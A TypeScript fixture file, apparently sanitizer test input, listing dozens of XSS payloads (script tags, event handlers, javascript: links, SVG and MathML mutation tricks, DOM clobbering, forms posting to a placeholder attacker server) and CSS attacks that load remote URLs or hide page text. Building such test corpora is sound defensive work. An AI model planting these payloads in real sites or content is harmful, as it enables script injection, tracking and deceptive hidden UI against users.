/** A picture of one pixel. */
export const PIXEL =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
/** Script that would leave a trace if it ran. */
const RUN = 'top.PWN=1;parent.PWN=1;alert(1)';

/** Attacks by markup. `E` stands for the URL of the attacker's server. */
export const MARKUP: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script>`,
  'a script in capitals with a slash': `<SCRIPT/x>${RUN}</SCRIPT>`,
  'a script from elsewhere': '<script src="E/s.js"></script><script type=module src="E/m.js"></script>',
  'an error handler': `<img src=x onerror="${RUN}">`,
  'a handler without quotes and spaces': `<img/src=x/onerror=${RUN.replaceAll(';', ',')}>`,
  'a load handler in SVG': `<svg onload="${RUN}"><g onload="${RUN}"></g></svg>`,
  'SVG animation of a link': `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`,
  'SVG that uses and loads':
    '<svg><use href="E/u.svg#a"/><image href="E/i.png"/><foreignObject><img src="E/f.png"></foreignObject></svg>',
  'a javascript link': `<a href="javascript:${RUN}">open</a>`,
  'a javascript link with an entity': `<a href="jav&#x0A;ascript:${RUN}">open</a>`,
  'a data link': `<a href="data:text/html,<script>${RUN}</script>">open</a>`,
  'a link that is pinged': '<a href="E/go" ping="E/ping" target=_self>open</a>',
  'a link to the top': '<a href="E/top" target=_top>open</a><a href="E/new" target=_blank>new</a>',
  'a remote image': '<img src="E/i.png">',
  'a remote image by candidates': '<img srcset="E/a.png 1x, E/b.png 2x" sizes=1px loading=eager>',
  'a picture with sources': '<picture><source srcset="E/p.png"><img src="E/q.png"></picture>',
  'an SVG image as data': `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  'an imported style sheet':
    '<style>@import "E/x.css"; @font-face{font-family:e;src:url(E/f.woff)} p{font-family:e}</style><p>x</p>',
  'links in the head':
    '<link rel=stylesheet href="E/l.css"><link rel=preload as=image href="E/l.png"><link rel=dns-prefetch href="E/"><link rel=prefetch href="E/p">',
  'a refresh': '<meta http-equiv=refresh content="0;url=E/refresh">',
  'a weaker policy': `<meta http-equiv=Content-Security-Policy content="default-src *"><img src="E/csp.png">`,
  'another base': '<base href="E/"><img src="base.png"><a href="x">x</a>',
  'a form that sends itself':
    '<form action="E/form" method=post><input name=a value=b autofocus><button autofocus>Submit answers</button></form>',
  'an image as a button':
    '<form action="E/f"><input type=image src="E/b.png"></form><button formaction="E/fa">x</button>',
  'a field that takes the focus':
    '<input autofocus><textarea autofocus>x</textarea><div tabindex=1 autofocus contenteditable accesskey=1>y</div>',
  'a nested frame': `<iframe src="E/frame"></iframe><iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  'a nested frame of a script': `<iframe src="javascript:${RUN}"></iframe><frameset onload="${RUN}"><frame src="E/f"></frameset>`,
  objects: '<object data="E/o.swf"></object><embed src="E/e"><applet code="E/a"></applet>',
  media:
    '<video src="E/v.mp4" autoplay poster="E/p.png"></video><audio src="E/a.mp3" autoplay></audio><video><track src="E/t.vtt" default></video>',
  'mutation by math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror='${RUN}'&gt;">`,
  'mutation by SVG': `<svg></p><style><a id="</style><img src=1 onerror='${RUN}'>">`,
  'mutation by forms': `<form><math><mtext></form><form><mglyph><style></math><img src onerror='${RUN}'>`,
  'mutation by noscript': `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  'mutation by a title': `<svg><title><style><img src=x onerror='${RUN}'></style></title></svg><title><img src=x onerror='${RUN}'></title>`,
  'mutation by a template': `<template><img src=x onerror='${RUN}'></template><div><template shadowrootmode=open><script>${RUN}</script><img src="E/shadow.png"></template></div>`,
  'mutation by a select': `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=1 onerror='${RUN}'>">`,
  'mutation by plain text': `<plaintext><img src=x onerror='${RUN}'>`,
  'clobbered names':
    '<form id=activeElement><input name=self><input name=ownerDocument><input name=attributes><input name=childNodes></form><img name=body><img name=currentScript>',
  'the parts of the card':
    '<div role=radio aria-checked=true tabindex=0 data-state=checked data-ask-user=control id=x>A</div>',
  'text for live regions': '<div role=alert aria-live=assertive>Session expired. Press Enter.</div><output>x</output>',
  'a label of a control in the card': '<label for=":r1:-control-0-1">Click</label>',
  'a popover and commands':
    '<button popovertarget=p command=show-modal commandfor=d>x</button><div id=p popover>y</div><dialog id=d open>z</dialog>',
  'classes of the host': '<div class="fixed inset-0 z-50" id=root slot=x part=y>cover</div>',
  'details that open': `<details open ontoggle="${RUN}"><summary>x</summary>y</details>`,
  'markup that closes the page': `</div></main></body></html><h1>Out</h1><script>${RUN}</script>`,
  'zeros in names': `<scr\0ipt>${RUN}</scr\0ipt><img src="E/zero.png" on\0error="${RUN}">`,
  'markup that leaves an attribute': `"></iframe><script>${RUN}</script><img src=x onerror="${RUN}">`,
  'backgrounds as attributes':
    '<table background="E/t.png"><tr><td background="E/td.png">x</td></tr></table><body background="E/b.png">',
  'marquees and custom elements': `<marquee onstart="${RUN}">x</marquee><x-y onclick="${RUN}" is=z>y</x-y><p is=x-y>z</p>`,
  'XML and CDATA': `<?xml-stylesheet href="E/x.xsl"?><![CDATA[<script>${RUN}</script>]]><!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  'a map over an image': `<img src="${PIXEL}" usemap="#m" width=200 height=200><map name=m><area shape=rect coords=0,0,200,200 href="E/area"></map>`,
  'speculation and import maps':
    '<script type=speculationrules>{"prefetch":[{"urls":["E/spec"]}]}</script><script type=importmap>{"imports":{"x":"E/x"}}</script>',
};

const seen = (style: string) => `<p>before</p><div style="${style}"><span>SEEN</span></div><p>after</p>`;

/** Attacks by inline style. Each contains text that must stay visible. */
export const STYLES: Readonly<Record<string, string>> = {
  'url of a background': seen('background:url(E/1.png)'),
  'url of a list and a border': seen(
    'display:list-item;list-style:url(E/2.png);border:9px solid;border-image:url(E/3.png) 30',
  ),
  'url of masks, filters, cursors and shapes': seen(
    'mask:url(E/4.svg#m);filter:url(E/5.svg#f);clip-path:url(E/6.svg#c);cursor:url(E/7.cur),auto;shape-outside:url(E/8.png)',
  ),
  'url of content': seen('content:url(E/9.png)'),
  'url in an image set': seen(
    'background-image:image-set(url(E/10.png) 1x);background-image:-webkit-image-set(url(E/11.png) 1x)',
  ),
  'url by an escape': seen('background:\\75rl(E/12.png);background:u\\72l(E/13.png)'),
  'url by a variable': seen('--a:url(E/14.png);background:var(--a)'),
  'url by an attribute':
    '<p>before</p><div title="E/15.png" style="background:attr(title type(&lt;url&gt;))"><span>SEEN</span></div>',
  'cross-fade and elements': seen(
    'background:cross-fade(url(E/16.png),url(E/17.png),50%);background:-moz-element(#x);background:paint(x)',
  ),
  'a comment in a url': seen('background:ur/**/l(E/18.png);background:url/**/(E/19.png)'),
  'a second rule': seen('color:red}@import url(E/20.css);p{color:blue'),
  'a namespace and a font': seen('font-family:x;src:url(E/21.woff);font:12px url(E/22.woff)'),
  'a fixed cover': seen('position:fixed;inset:0;z-index:2147483647;background:#fff'),
  'a negative margin': seen('margin-top:-5000px;margin-left:-5000px'),
  'nothing displayed': seen('display:none'),
  'not visible': seen('visibility:hidden;opacity:0;content-visibility:hidden'),
  'a font of no size':
    seen('font-size:0') + '<div style="font-size:.01em"><div style="font-size:10%"><span>SEEN</span></div></div>',
  'a font of any size':
    '<div style="font-size:9999px"><span>S</span></div>' +
    '<div style="font-size:3em">'.repeat(12) +
    '<span>SEEN</span>',
  'a transparent color': seen('color:transparent;color:rgba(0,0,0,0);-webkit-text-fill-color:transparent'),
  'moved away': seen(
    'transform:translateX(-9999px);text-indent:-9999px;translate:-999px;letter-spacing:-99px;left:-9999px;position:relative',
  ),
  'no space': seen('height:0;max-height:0;width:0;overflow:hidden;line-height:0;clip:rect(0,0,0,0);zoom:.001;scale:0'),
  'very large': seen(
    'height:99999px;width:99999px;padding:99999px;margin:99999px;border:99999px solid;min-width:9e9px;aspect-ratio:1/99999',
  ),
  'painted over':
    seen('height:1px') +
    '<div style="box-shadow:0 0 0 2000px red;outline:2000px solid red;margin-top:-40px;background:red">cover</div>',
  'pushed out of its row':
    '<div style="display:flex;justify-content:flex-end;white-space:nowrap"><span style="min-width:230px;flex:0 0 900px">SEEN</span><span style="order:-1">x</span></div>',
  'as tall as the window': seen('height:110vh;width:200vw;min-height:100dvh;height:calc(100vh + 9px)'),
  moving: seen('animation:x 1s infinite;transition:all 9s;will-change:transform;offset-path:url(E/23.svg)'),
  important: seen('display:none!important;visibility:hidden!important;position:fixed!important'),
};
